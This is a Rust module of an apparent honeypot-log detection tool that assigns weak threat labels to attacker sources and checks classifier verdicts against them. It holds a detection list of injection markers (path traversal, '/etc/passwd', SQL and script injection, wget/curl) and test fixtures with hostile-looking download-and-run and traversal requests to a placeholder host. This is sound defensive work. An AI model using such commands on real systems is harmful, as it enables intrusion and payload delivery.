//! The real-log check: transparent weak labels for honeypot sources, and how the final
//! verdicts agree with them. On a honeypot every source is hostile, so the weak labels
//! audit three behaviours a model must not miss; they are never training targets here.
//!
//! | weak label | rule (over all of a source's events) |
//! |---|---|
//! | Malware/Botnet | downloaded a file, or ran a fetch command (`wget`, `curl`, `tftp`) |
//! | Brute Force | at least 20 failed logins and no successful one |
//! | Reconnaissance | at least 5 sessions and no login attempt |
//!
//! A source matching several rules takes the first; a source matching none is not
//! audited (but still counts in the share of sources called Normal).
//!
//! T-Pot's sensors ([`sensor_labels`], [`SENSOR_LABELS`]) add a fourth rule, checked after
//! Malware/Botnet: Web Attack when a request carries an injection (Tanner's own detection
//! type 2, `../`, `/etc/passwd`, `<script`, `union select`, `wget`, `curl`, `cmd=`,
//! `php://`, `/shell?`) or an Elasticpot request has a body; and Brute Force needs 10
//! attempts there (a Heralding session records at most a few).
//!
//! Flow logs labelled per flow (Stratosphere's `label` column of a Zeek `conn` log:
//! `Malicious`, `Benign`, `Background`) are checked with [`FLOW_LABELS`]
//! ([`flow_labels`]): a source whose flows are all Malicious is an attacker, and agrees
//! when not called Normal; a source with a Benign flow is benign, and agrees when called
//! Normal; any other source is not audited.

use std::collections::BTreeMap;
use std::net::IpAddr;

use serde::Serialize;
use vigil_features::{Event, EventKind};

/// The weak classes, in rule order (names of the threat classes).
pub const WEAK_CLASSES: [&str; 3] = ["Malware/Botnet", "Brute Force", "Reconnaissance"];

/// When a verdict agrees with a label.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum Agrees {
    /// The verdict is this class.
    Class(&'static str),
    /// The verdict is any class but Normal.
    NotNormal,
    /// The verdict is Normal.
    Normal,
}

impl Agrees {
    fn with(self, verdict: &str) -> bool {
        match self {
            Self::Class(class) => verdict == class,
            Self::NotNormal => verdict != "Normal",
            Self::Normal => verdict == "Normal",
        }
    }
}

/// One label of a label set: its name and when a verdict agrees with it.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
pub struct LabelClass {
    /// The label's name.
    pub name: &'static str,
    /// When a verdict agrees.
    pub agrees: Agrees,
}

/// The honeypot weak labels ([`weak_labels`]), in rule order: each agrees with its class.
pub const HONEYPOT_LABELS: [LabelClass; 3] = [
    LabelClass { name: WEAK_CLASSES[0], agrees: Agrees::Class(WEAK_CLASSES[0]) },
    LabelClass { name: WEAK_CLASSES[1], agrees: Agrees::Class(WEAK_CLASSES[1]) },
    LabelClass { name: WEAK_CLASSES[2], agrees: Agrees::Class(WEAK_CLASSES[2]) },
];

/// The weak labels of T-Pot's sensors ([`sensor_labels`]): the honeypot ones and Web
/// Attack, each agreeing with its class.
pub const SENSOR_LABELS: [LabelClass; 4] = [
    HONEYPOT_LABELS[0],
    HONEYPOT_LABELS[1],
    HONEYPOT_LABELS[2],
    LabelClass { name: "Web Attack", agrees: Agrees::Class("Web Attack") },
];

/// Markers of an injection in a request, lower-cased (what [`sensor_labels`] calls a web
/// attack besides Tanner's own detection).
const INJECTIONS: [&str; 10] = [
    "../",
    "/etc/passwd",
    "<script",
    "union select",
    "wget",
    "curl",
    "cmd=",
    "php://",
    "/shell?",
    "%2e%2e/",
];

fn is_injection(e: &Event) -> bool {
    if e.kind != EventKind::HttpRequest {
        return false;
    }
    let tanner_attack = e.category.as_deref() == Some("tanner type 2");
    let body = e.command.as_deref().is_some_and(|c| !c.trim().is_empty());
    let url = e.url.as_deref().map(str::to_ascii_lowercase).unwrap_or_default();
    let decoded = url.replace('+', " ").replace("%20", " ");
    tanner_attack || body || INJECTIONS.iter().any(|m| decoded.contains(m))
}

/// The weak label of every source of a T-Pot sensor's log that has one (an index into
/// [`SENSOR_LABELS`]): the honeypot rules of [`weak_labels`] with Brute Force at 10
/// attempts, and Web Attack after Malware/Botnet.
pub fn sensor_labels(events: &[Event]) -> BTreeMap<IpAddr, usize> {
    let mut web: std::collections::BTreeSet<IpAddr> = std::collections::BTreeSet::new();
    for e in events.iter().filter(|e| is_injection(e)) {
        web.insert(e.src_ip);
    }
    let mut labels = weak_labels_with(events, 10);
    for ip in web {
        let label = labels.entry(ip).or_insert(3);
        if *label != 0 {
            *label = 3;
        }
    }
    labels
}

/// The per-flow labels of a flow log ([`flow_labels`]): attackers must not be called
/// Normal, benign sources must be.
pub const FLOW_LABELS: [LabelClass; 2] = [
    LabelClass { name: "attacker", agrees: Agrees::NotNormal },
    LabelClass { name: "benign", agrees: Agrees::Normal },
];

/// The label of every source of a Zeek log labelled per flow (an index into
/// [`FLOW_LABELS`]), from its `label` column (ASCII form, under its `#fields` header) or
/// `label` key (JSON form) and the source `id.orig_h`. Lines without both are passed over;
/// only reading can fail.
pub fn flow_labels(reader: impl std::io::BufRead) -> std::io::Result<BTreeMap<IpAddr, usize>> {
    #[derive(Default)]
    struct Seen {
        malicious: bool,
        benign: bool,
        other: bool,
    }
    #[derive(serde::Deserialize)]
    struct JsonLine {
        #[serde(rename = "id.orig_h")]
        orig: Option<String>,
        label: Option<String>,
    }
    let mut seen: BTreeMap<IpAddr, Seen> = BTreeMap::new();
    let mut columns: Option<(usize, usize)> = None;
    for line in reader.lines() {
        let line = line?;
        let (orig, label) = if let Some(fields) = line.strip_prefix("#fields\t") {
            let names: Vec<&str> = fields.split('\t').collect();
            let at = |name| names.iter().position(|n| *n == name);
            columns = at("id.orig_h").zip(at("label"));
            continue;
        } else if line.starts_with('#') || line.trim().is_empty() {
            continue;
        } else if line.trim_start().starts_with('{') {
            match serde_json::from_str::<JsonLine>(&line) {
                Ok(JsonLine { orig: Some(o), label: Some(l) }) => (o, l),
                _ => continue,
            }
        } else if let Some((o, l)) = columns {
            let cells: Vec<&str> = line.split('\t').collect();
            match (cells.get(o), cells.get(l)) {
                (Some(o), Some(l)) => ((*o).to_owned(), (*l).to_owned()),
                _ => continue,
            }
        } else {
            continue;
        };
        let Ok(ip) = orig.trim().parse::<IpAddr>() else { continue };
        let s = seen.entry(ip.to_canonical()).or_default();
        match label.trim() {
            l if l.eq_ignore_ascii_case("malicious") => s.malicious = true,
            l if l.eq_ignore_ascii_case("benign") => s.benign = true,
            _ => s.other = true,
        }
    }
    Ok(seen
        .into_iter()
        .filter_map(|(ip, s)| {
            if s.benign {
                Some((ip, 1))
            } else if s.malicious && !s.other {
                Some((ip, 0))
            } else {
                None
            }
        })
        .collect())
}

#[derive(Default)]
struct Tally {
    fetch: bool,
    failed: usize,
    succeeded: usize,
    sessions: std::collections::BTreeSet<Box<str>>,
    connects: usize,
}

fn is_fetch(command: &str) -> bool {
    command.split(|c: char| c.is_whitespace() || matches!(c, ';' | '|' | '&' | '(' | '`')).any(
        |word| {
            let name = word.rsplit('/').next().unwrap_or(word);
            matches!(name, "wget" | "curl" | "tftp")
        },
    )
}

/// The weak label of every source that has one (an index into [`WEAK_CLASSES`]).
pub fn weak_labels(events: &[Event]) -> BTreeMap<IpAddr, usize> {
    weak_labels_with(events, 20)
}

/// [`weak_labels`] with Brute Force at `brute_force` failed logins.
fn weak_labels_with(events: &[Event], brute_force: usize) -> BTreeMap<IpAddr, usize> {
    let mut tallies: BTreeMap<IpAddr, Tally> = BTreeMap::new();
    for e in events {
        let t = tallies.entry(e.src_ip).or_default();
        match e.kind {
            EventKind::FileDownload | EventKind::FileUpload => t.fetch = true,
            EventKind::LoginFailed => t.failed += 1,
            EventKind::LoginSuccess => t.succeeded += 1,
            EventKind::SessionConnect => t.connects += 1,
            _ => {}
        }
        if let Some(command) = e.command.as_deref()
            && is_fetch(command)
        {
            t.fetch = true;
        }
        if let Some(session) = &e.session {
            t.sessions.insert(session.clone());
        }
    }
    tallies
        .into_iter()
        .filter_map(|(ip, t)| {
            let sessions = t.sessions.len().max(t.connects);
            let label = if t.fetch {
                Some(0)
            } else if t.failed >= brute_force && t.succeeded == 0 {
                Some(1)
            } else if sessions >= 5 && t.failed + t.succeeded == 0 {
                Some(2)
            } else {
                None
            };
            label.map(|l| (ip, l))
        })
        .collect()
}

/// Agreement of one label.
#[derive(Debug, Clone, Serialize)]
pub struct WeakAgreement {
    /// The label (for the honeypot weak labels, a threat class).
    pub class: &'static str,
    /// Sources with this weak label.
    pub sources: usize,
    /// Of those, sources whose verdict agrees ([`LabelClass::agrees`]).
    pub agreeing: usize,
    /// `agreeing / sources` (0 when none).
    pub agreement: f64,
    /// Of those, sources called Normal.
    pub called_normal: usize,
}

/// The real-log check of one log.
#[derive(Debug, Clone, Serialize)]
pub struct RealCheck {
    /// The label set the check used ([`HONEYPOT_LABELS`] or [`FLOW_LABELS`]).
    pub labels: &'static [LabelClass],
    /// Sources with a verdict.
    pub sources: usize,
    /// Sources whose verdict is Normal.
    pub called_normal: usize,
    /// `called_normal / sources`.
    pub normal_share: f64,
    /// Per weak class.
    pub agreement: Vec<WeakAgreement>,
    /// Weak class -> verdict class -> sources.
    pub confusion: BTreeMap<&'static str, BTreeMap<String, usize>>,
    /// Verdict class -> sources, over every source.
    pub verdicts: BTreeMap<String, usize>,
    /// Every weak-labelled source whose verdict differs: (source, weak class, verdict), in
    /// address order, for an analyst to look at.
    pub disagreements: Vec<(IpAddr, &'static str, String)>,
}

/// Compares each source's final verdict `class` with its weak label ([`HONEYPOT_LABELS`]).
pub fn real_check(
    labels: &BTreeMap<IpAddr, usize>,
    verdicts: &BTreeMap<IpAddr, String>,
) -> RealCheck {
    real_check_with(&HONEYPOT_LABELS, labels, verdicts)
}

/// Compares each source's final verdict `class` with its label, an index into `set`.
pub fn real_check_with(
    set: &'static [LabelClass],
    labels: &BTreeMap<IpAddr, usize>,
    verdicts: &BTreeMap<IpAddr, String>,
) -> RealCheck {
    let mut confusion: BTreeMap<&'static str, BTreeMap<String, usize>> = BTreeMap::new();
    let mut all: BTreeMap<String, usize> = BTreeMap::new();
    for class in verdicts.values() {
        *all.entry(class.clone()).or_default() += 1;
    }
    let mut disagreements = Vec::new();
    for (ip, &label) in labels {
        let Some(l) = set.get(label) else { continue };
        if let Some(class) = verdicts.get(ip) {
            *confusion.entry(l.name).or_default().entry(class.clone()).or_default() += 1;
            if !l.agrees.with(class) {
                disagreements.push((*ip, l.name, class.clone()));
            }
        }
    }
    let agreement = set
        .iter()
        .map(|l| {
            let row = confusion.get(l.name);
            let sources = row.map_or(0, |r| r.values().sum());
            let agreeing =
                row.map_or(0, |r| r.iter().filter(|(v, _)| l.agrees.with(v)).map(|(_, n)| n).sum());
            WeakAgreement {
                class: l.name,
                sources,
                agreeing,
                agreement: if sources == 0 { 0.0 } else { agreeing as f64 / sources as f64 },
                called_normal: row.and_then(|r| r.get("Normal")).copied().unwrap_or(0),
            }
        })
        .collect();
    let called_normal = all.get("Normal").copied().unwrap_or(0);
    RealCheck {
        labels: set,
        sources: verdicts.len(),
        called_normal,
        normal_share: if verdicts.is_empty() {
            0.0
        } else {
            called_normal as f64 / verdicts.len() as f64
        },
        agreement,
        confusion,
        verdicts: all,
        disagreements,
    }
}

impl RealCheck {
    /// The check as Markdown: agreement per weak class, the Normal share, the confusion.
    pub fn markdown(&self) -> String {
        use std::fmt::Write as _;
        let mut out = String::new();
        let _ = writeln!(
            out,
            "{} sources; called Normal: {} ({:.1}%)\n",
            self.sources,
            self.called_normal,
            100.0 * self.normal_share
        );
        let _ = writeln!(out, "| label | sources | agreeing | agreement | called Normal |");
        let _ = writeln!(out, "|---|---|---|---|---|");
        for a in &self.agreement {
            let _ = writeln!(
                out,
                "| {} | {} | {} | {:.3} | {} |",
                a.class, a.sources, a.agreeing, a.agreement, a.called_normal
            );
        }
        let classes: Vec<&String> = self.verdicts.keys().collect();
        let _ = writeln!(
            out,
            "\n| label \\ verdict | {} |",
            classes.iter().map(|c| c.as_str()).collect::<Vec<_>>().join(" | ")
        );
        let _ = writeln!(out, "|---|{}", "---|".repeat(classes.len()));
        for (weak, row) in &self.confusion {
            let cells: Vec<String> =
                classes.iter().map(|c| row.get(*c).copied().unwrap_or(0).to_string()).collect();
            let _ = writeln!(out, "| {weak} | {} |", cells.join(" | "));
        }
        out
    }
}

/// `text` with `&`, `<`, `>`, `"` and `'` escaped for HTML text and attribute values.
fn escape(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            c => out.push(c),
        }
    }
    out
}

impl RealCheck {
    /// The check as one self-contained HTML page (no scripts, no outside resources):
    /// agreement per weak class with bars, the Normal share, the confusion table and the
    /// disagreeing sources. `title` names the log and the champion.
    pub fn html(&self, title: &str) -> String {
        use std::fmt::Write as _;
        let title = escape(title);
        let mut out = format!(
            "<!doctype html>\n<html lang=\"en\"><head><meta charset=\"utf-8\">\
             <title>vigil realcheck: {title}</title><style>\
             body{{font:14px/1.4 system-ui,sans-serif;margin:2em;max-width:60em}}\
             table{{border-collapse:collapse;margin:1em 0}}\
             td,th{{border:1px solid #ccc;padding:.3em .6em;text-align:right}}\
             th:first-child,td:first-child{{text-align:left}}\
             .bar{{display:inline-block;height:.8em;background:#3a7}}\
             .low{{background:#c44}}td.bar-cell{{text-align:left;width:210px}}</style></head><body>\n\
             <h1>Real-log check</h1>\n<p>{title}</p>\n\
             <p>{} sources; called Normal: {} ({:.1}%).{}</p>\n",
            self.sources,
            self.called_normal,
            100.0 * self.normal_share,
            if self.labels == HONEYPOT_LABELS {
                " On a honeypot every source is hostile, so that share is a miss rate."
            } else {
                ""
            }
        );
        out.push_str(
            "<h2>Agreement with the labels</h2>\n<table><tr><th>label</th>\
             <th>sources</th><th>agreeing</th><th>agreement</th><th></th>\
             <th>called Normal</th></tr>\n",
        );
        for a in &self.agreement {
            let low = if a.agreement < 0.9 { " low" } else { "" };
            let _ = writeln!(
                out,
                "<tr><td>{}</td><td>{}</td><td>{}</td><td>{:.3}</td>\
                 <td class=\"bar-cell\"><span class=\"bar{low}\" style=\"width:{:.0}px\"></span></td>\
                 <td>{}</td></tr>",
                escape(a.class),
                a.sources,
                a.agreeing,
                a.agreement,
                200.0 * a.agreement,
                a.called_normal
            );
        }
        out.push_str("</table>\n<h2>Label against verdict</h2>\n<table><tr><th></th>");
        let classes: Vec<&String> = self.verdicts.keys().collect();
        for class in &classes {
            let _ = write!(out, "<th>{}</th>", escape(class));
        }
        out.push_str("</tr>\n");
        for (weak, row) in &self.confusion {
            let _ = write!(out, "<tr><td>{}</td>", escape(weak));
            for class in &classes {
                let _ = write!(out, "<td>{}</td>", row.get(*class).copied().unwrap_or(0));
            }
            out.push_str("</tr>\n");
        }
        let _ = write!(
            out,
            "</table>\n<h2>Disagreeing sources ({})</h2>\n<table><tr><th>source</th>\
             <th>label</th><th>verdict</th></tr>\n",
            self.disagreements.len()
        );
        for (ip, weak, verdict) in &self.disagreements {
            let _ = writeln!(
                out,
                "<tr><td>{ip}</td><td>{}</td><td>{}</td></tr>",
                escape(weak),
                escape(verdict)
            );
        }
        out.push_str("</table>\n</body></html>\n");
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use vigil_features::Timestamp;

    fn event(ip: &str, kind: EventKind, session: &str, command: Option<&str>) -> Event {
        let mut e = Event::new(Timestamp::from_secs(0).unwrap(), ip.parse().unwrap(), kind);
        e.session = Some(session.into());
        e.command = command.map(Into::into);
        e
    }

    #[test]
    fn the_rules_label_in_order() {
        let mut events = vec![
            event("192.0.2.1", EventKind::Command, "a", Some("cd /tmp; /usr/bin/wget http://x/y")),
            event("192.0.2.1", EventKind::LoginFailed, "a", None),
        ];
        events.extend((0..20).map(|_| event("192.0.2.2", EventKind::LoginFailed, "b", None)));
        events.extend((0..19).map(|_| event("192.0.2.3", EventKind::LoginFailed, "c", None)));
        events.extend(
            (0..5).map(|i| event("192.0.2.4", EventKind::SessionConnect, &i.to_string(), None)),
        );
        events.extend(
            (0..4).map(|i| event("192.0.2.5", EventKind::SessionConnect, &i.to_string(), None)),
        );
        events.push(event("192.0.2.6", EventKind::Command, "f", Some("echo curling")));
        let labels = weak_labels(&events);
        let got: Vec<(String, usize)> = labels.iter().map(|(ip, &l)| (ip.to_string(), l)).collect();
        assert_eq!(
            got,
            [("192.0.2.1".into(), 0), ("192.0.2.2".into(), 1), ("192.0.2.4".into(), 2)]
        );

        let verdicts: BTreeMap<IpAddr, String> = [
            ("192.0.2.1", "Malware/Botnet"),
            ("192.0.2.2", "Normal"),
            ("192.0.2.4", "Reconnaissance"),
            ("192.0.2.6", "Normal"),
        ]
        .into_iter()
        .map(|(ip, c)| (ip.parse().unwrap(), c.to_owned()))
        .collect();
        let check = real_check(&labels, &verdicts);
        assert_eq!((check.sources, check.called_normal), (4, 2));
        let agreement: Vec<(usize, usize, usize)> =
            check.agreement.iter().map(|a| (a.sources, a.agreeing, a.called_normal)).collect();
        assert_eq!(agreement, [(1, 1, 0), (1, 0, 1), (1, 1, 0)]);
        assert!(check.markdown().contains("| Brute Force | 1 | 0 | 0.000 | 1 |"));
        let ip: IpAddr = "192.0.2.2".parse().unwrap();
        assert_eq!(check.disagreements, [(ip, "Brute Force", "Normal".to_owned())]);
        let html = check.html("log <x> & \"champion\"");
        assert!(html.contains("<p>log &lt;x&gt; &amp; &quot;champion&quot;</p>"), "{html}");
        assert!(html.contains("<tr><td>192.0.2.2</td><td>Brute Force</td><td>Normal</td></tr>"));
        assert!(html.contains("<td>Brute Force</td><td>1</td><td>0</td><td>0.000</td>"));
        assert!(html.ends_with("</body></html>\n") && !html.contains("<script"));
    }

    #[test]
    fn sensor_labels_add_web_attacks_and_count_ten_attempts() {
        let mut events: Vec<Event> =
            (0..10).map(|_| event("192.0.2.1", EventKind::LoginFailed, "a", None)).collect();
        let request = |ip: &str, url: &str| {
            let mut e = event(ip, EventKind::HttpRequest, "w", None);
            e.url = Some(url.into());
            e
        };
        events.push(request("192.0.2.2", "/shell?cd+/tmp;wget+http://x/y"));
        events.push(request("192.0.2.3", "/index.html"));
        let mut tanner = request("192.0.2.4", "/index.php?q=1");
        tanner.category = Some("tanner type 2".into());
        events.push(tanner);
        let mut body = request("192.0.2.5", "/_search");
        body.command = Some("{\"script\": 1}".into());
        events.push(body);
        // A downloader stays Malware/Botnet even with an injection.
        events.push(event("192.0.2.6", EventKind::FileUpload, "u", None));
        events.push(request("192.0.2.6", "/../../etc/passwd"));
        let got: Vec<(String, usize)> =
            sensor_labels(&events).iter().map(|(ip, &l)| (ip.to_string(), l)).collect();
        assert_eq!(
            got,
            [
                ("192.0.2.1".into(), 1),
                ("192.0.2.2".into(), 3),
                ("192.0.2.4".into(), 3),
                ("192.0.2.5".into(), 3),
                ("192.0.2.6".into(), 0)
            ]
        );
        // The Cowrie rules need 20.
        assert!(!weak_labels(&events).contains_key(&"192.0.2.1".parse().unwrap()));
    }

    #[test]
    fn flow_labels_make_attackers_and_benign_sources() {
        let log = "#separator \\x09\n#fields\tts\tid.orig_h\tid.resp_h\tlabel\n\
                   1\t192.0.2.1\t192.0.2.9\tMalicious\n1\t192.0.2.1\t192.0.2.9\tMalicious\n\
                   1\t192.0.2.2\t192.0.2.9\tMalicious\n1\t192.0.2.2\t192.0.2.9\tBenign\n\
                   1\t192.0.2.3\t192.0.2.9\tMalicious\n1\t192.0.2.3\t192.0.2.9\tBackground\n\
                   1\t192.0.2.4\t192.0.2.9\tBackground\n\
                   {\"id.orig_h\":\"192.0.2.5\",\"label\":\"Malicious\"}\n";
        let labels = flow_labels(log.as_bytes()).unwrap();
        let got: Vec<(String, usize)> = labels.iter().map(|(ip, &l)| (ip.to_string(), l)).collect();
        assert_eq!(
            got,
            [("192.0.2.1".into(), 0), ("192.0.2.2".into(), 1), ("192.0.2.5".into(), 0)]
        );
        let verdicts: BTreeMap<IpAddr, String> =
            [("192.0.2.1", "Reconnaissance"), ("192.0.2.2", "Normal"), ("192.0.2.5", "Normal")]
                .into_iter()
                .map(|(ip, c)| (ip.parse().unwrap(), c.to_owned()))
                .collect();
        let check = real_check_with(&FLOW_LABELS, &labels, &verdicts);
        let agreement: Vec<(usize, usize)> =
            check.agreement.iter().map(|a| (a.sources, a.agreeing)).collect();
        assert_eq!(agreement, [(2, 1), (1, 1)]);
        let ip: IpAddr = "192.0.2.5".parse().unwrap();
        assert_eq!(check.disagreements, [(ip, "attacker", "Normal".to_owned())]);
        assert!(!check.html("x").contains("honeypot"));
    }
}
